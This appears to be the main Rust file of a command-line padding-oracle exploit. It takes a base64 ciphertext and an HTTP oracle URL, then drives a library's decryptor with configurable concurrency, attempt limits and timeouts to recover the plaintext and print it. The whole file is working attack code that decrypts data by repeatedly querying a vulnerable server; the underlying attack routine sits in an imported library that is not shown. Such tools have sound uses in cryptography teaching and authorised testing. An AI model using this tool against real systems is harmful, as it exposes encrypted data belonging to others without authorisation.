use padding_oracle::{
    aes_cbc::pkcs7_padding_len, logging, AttackConfig, HttpOracle, MessageDecryptor, BLOCK_SIZE,
};

use base64::{engine::general_purpose::STANDARD, Engine as _};
use clap::Parser;
use tracing::warn;

use std::time::Duration;

/// Exploit a CBC padding oracle served over HTTP.
#[derive(Debug, Parser)]
struct Args {
    /// The message to decrypt, in base64 encoding
    message: String,
    /// URL of the oracle, e.g. 'http://127.0.0.1:12345/'
    url: String,
    /// IV the message was encrypted with, in base64 encoding. Without it the
    /// first block of the output is garbled
    #[arg(long)]
    iv: Option<String>,
    #[arg(long, default_value_t = BLOCK_SIZE)]
    block_size: usize,
    /// Give up on a byte after this many oracle queries
    #[arg(long, default_value_t = 1 << 16)]
    max_attempts: u64,
    /// Number of blocks to attack at once
    #[arg(long, default_value_t = 1)]
    concurrency: usize,
    #[arg(long, default_value_t = 10_000)]
    request_timeout_ms: u64,
    /// Give up on a block after this many seconds
    #[arg(long)]
    block_timeout_secs: Option<u64>,
    /// Print the plaintext in base64 instead of as an escaped byte string
    #[arg(long)]
    base64: bool,
    /// Remove PKCS#7 padding from the recovered plaintext
    #[arg(long)]
    strip_padding: bool,
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    logging::init();
    let args = Args::parse();

    let ciphertext = STANDARD.decode(args.message.trim())?;
    let iv = match &args.iv {
        Some(iv) => STANDARD.decode(iv.trim())?,
        None => {
            warn!("no IV given, assuming zeros; the first block will be wrong");
            vec![0u8; args.block_size]
        }
    };

    let config = AttackConfig {
        block_size: args.block_size,
        max_attempts: args.max_attempts,
        concurrency: args.concurrency,
        block_timeout: args.block_timeout_secs.map(Duration::from_secs),
    };
    let oracle = HttpOracle::new(args.url, Duration::from_millis(args.request_timeout_ms))?
        .with_block_size(args.block_size);
    let decryptor = MessageDecryptor::new(oracle, config)?;

    let mut plaintext = decryptor.decrypt(&ciphertext, &iv).await?;
    if args.strip_padding {
        let last_block = &plaintext[plaintext.len().saturating_sub(args.block_size)..];
        match pkcs7_padding_len(last_block) {
            Some(n_pad) => plaintext.truncate(plaintext.len() - n_pad as usize),
            None => warn!("recovered plaintext has no valid padding to strip"),
        }
    }

    if args.base64 {
        println!("{}", STANDARD.encode(&plaintext));
    } else {
        println!("{}", plaintext.escape_ascii());
    }
    Ok(())
}
